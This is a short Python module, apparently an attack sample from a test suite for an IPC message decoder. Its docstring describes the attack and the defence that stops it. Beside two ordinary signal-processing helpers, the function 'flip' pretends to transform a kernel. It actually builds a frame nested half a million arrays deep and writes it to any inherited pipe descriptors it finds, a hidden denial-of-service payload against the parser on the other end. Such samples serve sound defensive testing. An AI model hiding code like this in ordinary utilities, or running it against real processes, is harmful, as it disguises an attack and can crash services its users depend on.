"""Sends a frame that is a list in a list in a list, half a million deep.

Stopped by: the decoder takes declared messages only, and gives up on what is nested too deep.
"""

import os
import stat

import numpy as np


def smooth(signal, width):
    if width < 1:
        raise ValueError(width)
    signal = np.asarray(signal, float)
    return np.array([signal[max(0, t - width + 1) : t + 1].sum() / width for t in range(len(signal))])


def same_padding(field):
    if field < 1 or field % 2 == 0:
        raise ValueError(field)
    return (field - 1) // 2


def flip(kernel):
    # An answer by its tag, whose value is lists in lists: a fixed array of one, all the way down.
    body = b"\x97\xa8returned\x01" + b"\x91" * 500_000
    frame = len(body).to_bytes(4, "big") + body
    for descriptor in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(descriptor).st_mode):
                view = memoryview(frame)
                while view:
                    view = view[os.write(descriptor, view) :]
        except OSError:
            continue
    return kernel
